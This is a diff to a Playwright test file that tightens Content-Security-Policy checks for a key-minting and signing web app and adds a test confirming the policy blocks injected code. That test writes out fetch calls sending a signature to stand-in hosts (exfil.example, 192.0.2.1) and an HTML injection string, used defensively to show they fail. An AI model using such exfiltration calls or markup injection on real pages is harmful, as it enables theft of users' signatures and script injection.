@@ -54,6 +54,12 @@ for (const build of BUILDS) {
     expect(csp.get('base-uri')).toEqual(["'none'"]);
     expect(csp.get('form-action')).toEqual(["'none'"]);
     expect(csp.get('object-src')).toEqual(["'none'"]);
+    // Trusted Types: no string reaches an HTML or script sink except through the page's one policy.
+    expect(csp.get('require-trusted-types-for')).toEqual(["'script'"]);
+    // The hosted page's one policy passes its workers' URLs; the single file starts no worker.
+    expect(csp.get('trusted-types')).toEqual(
+      build.file === 'index.html' ? ['default'] : ["'none'"],
+    );
     const scriptSrc = csp.get('script-src') ?? [];
     expect(scriptSrc.length).toBeGreaterThan(0);
     expect(
@@ -63,9 +69,14 @@ for (const build of BUILDS) {
       expect(csp.get('connect-src')).toEqual(["'none'"]);
       expect(scriptSrc.every((s) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(s))).toBe(true);
     } else {
-      // Only what a relay needs: https, and plain http to this computer.
+      // Only the relay on this computer, over http or https: no https: wildcard, no other host.
       expect(csp.get('connect-src')?.sort()).toEqual(
-        ['http://127.0.0.1:*', 'http://localhost:*', 'https:'].sort(),
+        [
+          'http://127.0.0.1:*',
+          'https://127.0.0.1:*',
+          'http://localhost:*',
+          'https://localhost:*',
+        ].sort(),
       );
       expect(scriptSrc).toEqual(["'self'"]);
     }
@@ -157,6 +168,45 @@ test("hosted build: minting, importing and signing make no request beyond the pa
     .locator('meta[http-equiv="Content-Security-Policy"]')
     .getAttribute('content');
   expect(meta).toMatch(/default-src 'none'/);
+});
+
+test('hosted build: a script in the page can reach no server but loopback, and can write no markup', async ({
+  page,
+}) => {
+  await page.goto('/');
+  await expect(ui(page).generateKey).toBeEnabled();
+  const watch = watchOf(page);
+  // What injected code would try: send a signature elsewhere, or write HTML into the page.
+  const attempts = await page.evaluate(async () => {
+    const fetched = await Promise.all(
+      ['https://exfil.example/?sig=abc', 'http://192.0.2.1/?sig=abc'].map((url) =>
+        fetch(url, { mode: 'no-cors' }).then(
+          () => 'sent',
+          (error: Error) => error.name,
+        ),
+      ),
+    );
+    let markup = 'written';
+    try {
+      document.body.insertAdjacentHTML('beforeend', '<img src=x id=injected>');
+    } catch (error) {
+      markup = (error as Error).name;
+    }
+    return { fetched, markup, injected: document.getElementById('injected') !== null };
+  });
+  expect(attempts).toEqual({
+    fetched: ['TypeError', 'TypeError'],
+    markup: 'TypeError',
+    injected: false,
+  });
+  await expect
+    .poll(() => watch.cspViolations.map((v) => `${v.violatedDirective} ${v.blockedURI}`).sort())
+    .toEqual([
+      'connect-src http://192.0.2.1/?sig=abc',
+      'connect-src https://exfil.example/?sig=abc',
+      'require-trusted-types-for trusted-types-sink',
+    ]);
+  expect(watch.nonLoopbackRequests()).toEqual([]);
 });
 
 test('single file from file://: minting, importing and signing make no network request at all', async ({
